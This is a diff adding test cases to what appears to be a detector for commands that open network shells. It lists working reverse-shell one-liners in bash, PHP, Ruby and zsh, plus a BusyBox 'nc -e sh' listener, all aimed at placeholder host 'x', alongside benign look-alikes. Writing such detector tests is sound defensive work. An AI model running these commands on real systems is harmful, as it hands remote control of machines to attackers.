@@ -14,6 +14,14 @@ it('is a tool for connections that starts a shell', () => {
   assert.deepEqual(run('socat1', 'TCP-L:1,fork', 'SYSTEM:/bin/bash'), ['danger SYSTEM:/bin/bash']);
 });
 
+it('is BusyBox that is called as such a tool', () => {
+  for (const words of [['nc'], ['busybox', 'nc']]) {
+    const commandLine = [...words, '-lp', '7', '-e', 'sh'];
+    const found = seen(warning, { executable: '/bin/busybox', commandLine });
+    assert.deepEqual(found, ['danger sh']);
+  }
+});
+
 it('is not one that passes data, nor another program that names a shell', () => {
   assert.deepEqual(run('socat', 'TCP-LISTEN:80,fork', 'UNIX:/run/x.sock'), []);
   assert.deepEqual(run('nc.openbsd', '-l', '7777'), []);
@@ -34,6 +42,12 @@ it('is a line of code that connects a shell, in any language', () => {
     ['lua5.3', '-e', 'local s=require("socket");local f=assert(io.popen(r,"r"))'],
     ['gawk', 'BEGIN {s="/inet/tcp/0/x/1";while(1){s |& getline c;while((c |& getline)>0);}}'],
     ['bash', '-c', 'mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc x 1 >/tmp/f'],
+    ['php', '-r', '$s=fsockopen("x",1);`/bin/sh -i <&3 >&3 2>&3`;'],
+    ['ruby', '-rsocket', '-e', 'spawn("sh",[:in,:out,:err]=>TCPSocket.new("x",1))'],
+    ['bash', '-c', 'exec 5<>/dev/tcp/x/1;cat <&5 | while read l; do $l 2>&5 >&5; done'],
+    ['bash', '-c', 'nohup bash -i >& /dev/tcp/x/1 0>&1 &'],
+    ['bash', '-c', '0<&196;exec 196<>/dev/tcp/x/1; sh <&196 >&196 2>&196'],
+    ['zsh', '-c', 'zmodload zsh/net/tcp && ztcp x 1 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'],
     ['sh', '-c', 'mkfifo /run/s; sh -i </run/s 2>&1|openssl s_client -connect x:1 >/run/s'],
   ];
   for (const line of lines) assert.equal(code(...line), 1, line.join(' '));
@@ -48,6 +62,9 @@ it('is not a line that connects, or one that runs something, alone', () => {
     ['php', '-r', 'exec("/bin/sh backup.sh");'],
     ['bash', '-c', 'until nc -z db 5432; do sleep 1; done; exec bash run.sh'],
     ['bash', '-c', 'exec 3<>/dev/tcp/localhost/8080; cat <&3'],
+    ['bash', '-c', 'until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done; sh run.sh'],
+    ['bash', '-c', 'while read h; do echo > "/dev/tcp/$h/22" && echo "$h"; done < hosts'],
+    ['ruby', '-rsocket', '-e', 'TCPSocket.new("x",1); exec("publish")'],
     ['sh', '-c', 'mkfifo /run/log; cat /run/log & exec nginx'],
     ['gawk', '{ "date" |& getline now; print now }'],
   ];
